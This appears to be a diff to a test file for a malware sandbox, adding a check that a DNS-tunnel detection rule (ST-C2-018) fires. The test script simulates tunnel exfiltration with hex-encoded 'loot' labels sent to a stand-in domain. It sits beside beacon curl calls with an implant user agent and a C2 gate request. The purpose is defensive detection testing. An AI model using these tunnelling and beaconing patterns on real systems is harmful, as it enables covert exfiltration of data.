@@ -94,6 +94,7 @@ test('DNS: the names a sample looks up are answered by the sandbox\'s sinkhole a
     writeFileSync(script, `#!/bin/sh
 getent ahostsv4 c2.example.test
 RES_OPTIONS=use-vc getent ahostsv4 over-tcp.example.test
+for i in 1 2 3 4 5 6 7 8 9 10 11 12; do getent ahostsv4 6c6f6f742d6368756e6b2d6f662d6578$i.t.tunnel.test > /dev/null; done
 curl -sk -m 5 -A implant/2.1 -d id=7 -o /dev/null -w 'https: %{http_code}\\n' https://secure.example.test/api/beacon
 curl -s -m 5 -o /dev/null https://checked.example.test/ || echo 'checked: refused'
 python3 -c "
@@ -168,6 +169,8 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const checked = tls('checked.example.test');
     assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
+    // names carrying data under one domain (a DNS tunnel), judged from the sinkhole's log (a rule of source dns)
+    assert.match(r.findings.find((f) => f.rule === 'ST-C2-018')?.output ?? '', /^DNS tunnel \(domain=tunnel\.test names=12 queries=\d+ longest_label=34 /, JSON.stringify(r.findings.map((f) => f.rule)));
     // glibc's resolver told to ask over TCP (RES_OPTIONS=use-vc) is answered there too
     assert.match(a('over-tcp.example.test')?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(r.dns));
     assert.ok(r.network.some((n) => n.op === 'connect' && n.proto === 'tcp' && n.address === '192.0.2.53' && n.port === 53 && n.result === 'ok'), JSON.stringify(r.network));
